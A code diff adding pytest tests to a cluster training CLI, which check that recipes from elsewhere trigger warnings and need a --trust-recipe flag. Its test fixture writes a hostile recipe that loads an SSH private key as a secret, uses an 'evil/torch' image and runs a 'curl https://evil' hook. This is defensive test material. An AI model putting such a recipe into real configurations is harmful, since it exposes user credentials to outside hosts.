@@ -1,5 +1,6 @@
 """`sparkctl train`, as far as it goes without an engine."""
 
+from dataclasses import dataclass, field
 from pathlib import Path
 
 import pytest
@@ -11,6 +12,7 @@ from orchestrator.runs.preflight import Checked
 from orchestrator.spec.load import stack_names
 from tests.cli.conftest import Sparkctl
 from tests.cli.test_cli_cluster import differ, take_in
+from tests.support.clusters import ROOT
 from tests.support.fakes import FakeCluster
 
 
@@ -55,6 +57,77 @@ def test_a_dry_run_with_machines_shows_what_they_say(sparkctl: Sparkctl, site: F
     assert "node.id == id-of-spark-b" in ran.stdout
     assert "<" not in ran.stdout
     assert [machine.changes for machine in site.machines.values()] == [[], []]
+
+
+def evil_recipe(tmp_path: Path) -> str:
+    text = (ROOT / "stacks" / "tiny-llama-lora.yaml").read_text()
+    key = tmp_path / ".ssh" / "id_ed25519"
+    key.parent.mkdir()
+    key.write_text("s3cret-key\n")
+    key.chmod(0o600)
+    (tmp_path / "net.yaml").write_text(
+        f"{text}\nbase_image: evil/torch\nsecrets: [{{name: KEY, file: ~/.ssh/id_ed25519}}]\n"
+        "gang: {hooks: [{command: [curl, https://evil]}]}\n"
+    )
+    return "./net.yaml"
+
+
+def test_a_recipe_from_elsewhere_is_asked_about_each_time(
+    sparkctl: Sparkctl, site: FakeCluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    take_in(site)
+    monkeypatch.setattr("orchestrator.cli.train.start", started := Started())
+    recipe = evil_recipe(tmp_path)
+    for _ in range(2):
+        ran = sparkctl("train", recipe, "--detach")
+        assert ran.code == 8
+        assert "  base image: everything runs in evil/torch\n" in ran.stderr
+        assert "or its file ~/.ssh/id_ed25519\n" in ran.stderr
+        assert "  hook: runs `curl https://evil` on rank 0" in ran.stderr
+        assert "Add --trust-recipe" in ran.stderr
+        assert "s3cret" not in ran.stdout + ran.stderr
+    assert not site.connected and not started.runs
+    assert sparkctl("train", recipe, "--detach", "--trust-recipe").code == 0
+    assert len(started.runs) == 1
+
+
+def test_a_recipe_that_is_shipped_or_harmless_is_not_asked_about(
+    sparkctl: Sparkctl, site: FakeCluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    take_in(site)
+    monkeypatch.setattr("orchestrator.cli.train.start", started := Started())
+    text = (ROOT / "stacks" / "tiny-llama-lora.yaml").read_text()
+    (tmp_path / "mine.yaml").write_text(text)
+    assert sparkctl("train", "mine.yaml", "--detach").code == 0
+    ran = sparkctl("train", "tiny-llama-lora", "--detach", "--set", "base_image=mine")
+    assert ran.code == 0
+    assert len(started.runs) == 2
+
+
+def test_a_dry_run_says_which_file_is_read_and_asks_nothing(
+    sparkctl: Sparkctl, site: FakeCluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    take_in(site)
+    ran = sparkctl("train", evil_recipe(tmp_path), "--dry-run")
+    assert ran.code == 0
+    file = tmp_path / ".ssh" / "id_ed25519"
+    assert f"# secret KEY: from the file {file} of this computer\n" in ran.stdout
+    assert "# hook: runs `curl https://evil` on rank 0" in ran.stdout
+    assert "s3cret" not in ran.stdout + ran.stderr
+    monkeypatch.setenv("KEY", "s3cret-variable")
+    ran = sparkctl("train", "./net.yaml", "--dry-run")
+    assert "# secret KEY: from the variable KEY of this command\n" in ran.stdout
+    assert "s3cret" not in ran.stdout + ran.stderr
+
+
+@dataclass
+class Started:
+    """In the place of what starts a run."""
+
+    runs: list[Prepared] = field(default_factory=list)
+
+    def __call__(self, spec: object, prepared: Prepared, *_: object) -> None:
+        self.runs.append(prepared)
 
 
 def test_a_dry_run_shows_the_settings(sparkctl: Sparkctl, site: FakeCluster) -> None:
